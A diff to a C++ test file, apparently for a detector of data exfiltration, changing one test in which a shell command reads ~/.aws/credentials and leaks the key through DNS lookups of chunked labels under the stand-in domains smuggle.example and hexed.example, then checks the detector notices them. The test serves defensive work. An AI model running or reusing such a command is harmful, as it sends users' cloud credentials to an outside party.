@@ -243,10 +243,10 @@ TEST_P(Forgery, StealingAPortDoesNotStealWhatIsSentElsewhere) {
 }
 
 TEST_P(Forgery, ASecretCutIntoLabelsIsPutTogether) {
-  act("k=$(cut -d= -f2 ~/.aws/credentials); getent hosts "
-      "${k:0:8}.${k:8:8}.${k:16}.smuggle.example >/dev/null; "
+  act("k=$(cut -d= -f2 ~/.aws/credentials); labels() { printf %s $2 | fold -w $1 | paste -sd.; }; "
+      "getent hosts $(labels 8 $k).smuggle.example >/dev/null; "
       "h=$(printf %s $k | od -An -v -tx1 | tr -d ' \\n'); "
-      "getent hosts ${h:0:20}.${h:20:20}.${h:40}.hexed.example > /dev/null; true");
+      "getent hosts $(labels 20 $h).hexed.example > /dev/null; true");
 
   EXPECT_THAT(sightings(), Contains(HasSubstr("smuggle.example")));
   EXPECT_THAT(sightings(), Contains(HasSubstr("hexed.example")));
